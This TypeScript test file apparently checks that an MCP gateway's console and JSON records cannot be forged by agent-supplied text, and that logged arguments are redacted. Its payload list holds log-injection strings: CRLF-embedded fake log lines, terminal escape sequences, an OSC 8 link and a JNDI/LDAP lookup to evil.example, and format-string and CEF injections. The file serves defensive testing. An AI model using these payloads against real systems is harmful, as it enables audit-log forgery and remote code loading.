/** What an agent writes cannot write lines of ours: console and records. Checklist L3. */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, expect, test } from "vitest";
import { verifyFolder } from "../../node/record/verify.ts";
import type { JsonObject } from "../../protocol/mcp/shape.ts";
import { ask, modernBody, modernHeaders, modernMeta, olderHeaders } from "./agent.ts";
import { Gateway, until } from "./gateway.ts";
import { RawSocket, requestText } from "./rawsocket.ts";
import { enter, HttpOlder, SocketWay, type SseWay } from "./ways.ts";

let gateway: Gateway | undefined;
afterEach(() => gateway?.remove());

/** A line of each kind, as somebody might wish it to stand there. */
const forgedJson =
  '{"at":1,"persona":"reader","agent":"agent","door":"http","method":"tools/call","name":"FORGED","verdict":"allow","op":"AAAAAAAAAAAAAAAAAAAAAA"}';
const forgedText =
  "12:00:00  allow      reader agent             FORGED                           ok, 1 ms  AAAAAAAAAAAAAAAAAAAAAA";

const breaks: readonly string[] = [
  ...["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\v", "\f", "\0"].flatMap((end) => [
    `x${end}${forgedJson}`,
    `x${end}${forgedText}`,
  ]),
  `x"}\n${forgedJson}\n{"a":"`,
  '","verdict":"allow","x":"',
  "\u001b[2J\u001b[1;1HFORGED",
  "\u001b]0;FORGED\u0007",
  "\u001b]8;;http://evil.example\u001b\\FORGED\u001b]8;;\u001b\\",
  "\u009b31mFORGED",
  "\u001bcFORGED",
  "x\b\b\b\bFORGED",
  "\u202eDEGROF",
  "\u200bFORGED\u{e0041}\u{e0042}",
  "CEF:0|x|y=z\\|",
  "${jndi:ldap://evil.example}",
  "%s%n%p",
];

/** Sends each text in each place where an agent may write one; how many decisions that makes. */
async function sendAll(at: Gateway, key: string): Promise<void> {
  const place = { port: at.port, path: "/p/reader", key };
  const older = await HttpOlder.open(place);
  const socket = await SocketWay.open(place);
  const sse = (await enter("sse", place)) as SseWay;
  for (const text of breaks) {
    for (const way of [older, socket, sse]) {
      await way.request("tools/call", { name: text });
      await way.request("prompts/get", { name: text });
      await way.request("resources/read", { uri: text });
      await way.request("tools/call", { name: "read", arguments: { path: text, [text]: 1 } });
      await way.request("tools/call", { name: "echo", arguments: { text } });
      await way.request(text.slice(0, 100), { name: text });
      await way.request("tools/list", { cursor: text });
      await way.request("completion/complete", {
        ref: { type: "ref/prompt", name: text },
        argument: { name: text, value: text },
      });
    }
    const meta = modernMeta({
      "io.modelcontextprotocol/clientInfo": { name: text, version: text },
      traceparent: text,
      tracestate: text,
      [text]: text,
    });
    await ask({
      port: at.port,
      path: "/p/reader/mcp",
      headers: modernHeaders(key, "tools/call", { name: "vault" }),
      body: modernBody(text, "tools/call", { name: "vault", _meta: meta }),
    });
    const params = {
      protocolVersion: text.slice(0, 50),
      capabilities: {},
      clientInfo: { name: text, version: text },
    };
    await ask({
      port: at.port,
      path: "/p/reader/mcp",
      headers: olderHeaders(key),
      body: JSON.stringify({ jsonrpc: "2.0", id: text, method: "initialize", params }),
    });
    // In a header and in the address: what no HTTP parser lets through, and what one might.
    const line = text.replace(/[\0\r\n]/g, " ");
    const raw = new RawSocket(at.port);
    raw.write(
      requestText(
        `POST /p/reader/mcp?${encodeURIComponent(text)} HTTP/1.1`,
        [
          ["Host", at.host],
          ...Object.entries(modernHeaders(key, "tools/call", { name: "drop" })),
          ["User-Agent", line],
          ["X-Forwarded-For", line],
          ["Referer", line],
        ],
        modernBody(1, "tools/call", { name: "drop" }),
      ),
    );
    await raw.answer();
    raw.destroy();
  }
  socket.close();
  sse.close();
}

/** Characters that end a line, move a cursor or hide: none of them may be in what a terminal shows. */
const unseen =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u;

test("L3: on a terminal every decision is one line, in which nothing moves the cursor, hides, or reads like another line", async () => {
  gateway = await Gateway.start({ readable: true });
  await sendAll(gateway, gateway.key("agent"));
  await gateway.stop();
  const lines = gateway.console.join("").split("\n").slice(0, -1);
  expect(lines.length).toBeGreaterThan(breaks.length);
  const strange = lines.filter(
    (line) =>
      unseen.test(line) || !/^(\d\d:\d\d:\d\d {2}(allow|deny|throttle|quarantine) |alert )/.test(line),
  );
  expect(strange.map((line) => JSON.stringify(line))).toEqual([]);
  expect(
    lines.filter((line) => line.startsWith("12:00:00  allow      reader agent             FORGED")),
  ).toEqual([]);
});

test("L3: elsewhere every decision is one line of JSON, with the keys that we gave it", async () => {
  gateway = await Gateway.start();
  await sendAll(gateway, gateway.key("agent"));
  await gateway.stop();
  const lines = gateway.console.join("").split("\n").slice(0, -1);
  const known = new Set([
    "at",
    "persona",
    "agent",
    "user",
    "door",
    "method",
    "name",
    "verdict",
    "rule",
    "outcome",
    "tookMs",
    "bytes",
    "op",
    "notice",
  ]);
  for (const line of lines) {
    const row = JSON.parse(line) as JsonObject;
    expect(Object.keys(row).filter((name) => !known.has(name))).toEqual([]);
    expect(row["name"] === "FORGED" || unseen.test(line)).toBe(false);
  }
  expect(lines.length).toBeGreaterThan(breaks.length);
});

test("L3: records are lines of JSON that verify, none of them written by an agent", async () => {
  gateway = await Gateway.start();
  await sendAll(gateway, gateway.key("agent"));
  await gateway.stop();
  const folder = join(gateway.folder, "data", "records");
  const files = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) =>
    name.endsWith(".jsonl"),
  );
  let count = 0;
  for (const file of files)
    for (const line of readFileSync(join(folder, file), "utf8").split("\n").slice(0, -1)) {
      const row = JSON.parse(line) as JsonObject;
      count++;
      expect([row["name"] === "FORGED", row["op"] === "A".repeat(22), /[\u0000-\u001f]/.test(line)]).toEqual([
        false,
        false,
        false,
      ]);
    }
  expect(count).toBeGreaterThan(breaks.length);
  expect(verifyFolder(folder)).toMatchObject({ findings: [] });
});

test("what a server logs of the arguments that it got is on the console without what is sensitive in them", async () => {
  const script = new URL("canarychild.ts", import.meta.url).pathname;
  const transport = { stdio: { command: "node", args: [script, "--tells"] } };
  gateway = await Gateway.start({ server: { transport, era: "legacy", network: undefined } });
  const way = await enter("http older", { port: gateway.port, path: "/p/reader", key: gateway.key("agent") });
  const text = "to maria.nowak@mailhost.de, IBAN GB82WEST12345698765432, ticket 4711";
  await way.request("tools/call", { name: "echo", arguments: { text } });
  way.close();
  await until(() => gateway?.console.join("").includes("ticket 4711") === true);
  const shown = gateway.console.join("");
  expect(shown).toContain("to [redacted: email], IBAN [redacted: iban], ticket 4711");
  for (const value of ["maria.nowak", "GB82WEST12345698765432"]) expect(shown).not.toContain(value);
});
